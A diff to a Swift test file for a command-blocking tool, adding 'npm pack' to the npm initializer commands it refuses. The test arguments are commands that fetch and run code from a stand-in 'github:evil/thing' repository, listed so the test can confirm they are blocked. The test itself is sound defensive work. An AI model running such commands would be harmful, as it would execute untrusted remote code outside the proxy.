@@ -112,9 +112,11 @@ import BouncerTestSupport
     }
 
     /// `npm create` and `npm init` of a git initializer run `npm exec` of
-    /// `github:user/create-NAME`: fetched with git, past the proxy. Refused
+    /// `github:user/create-NAME`, and `npm pack` of a git spec runs its
+    /// `prepare` to pack it: fetched with git, past the proxy. Refused
     /// before npm starts (no request leaves this machine).
-    @Test(arguments: ["npm create github:evil/thing", "npm init --yes github:evil/thing", "npm create evil/thing"])
+    @Test(arguments: ["npm create github:evil/thing", "npm init --yes github:evil/thing", "npm create evil/thing",
+                      "npm pack github:evil/thing"])
     func anInitializerFromGitIsRefused(command: String) throws {
         defer { try? FileManager.default.removeItem(at: root) }
         let harness = try ShimHarness("bouncer-threat-remote-init")
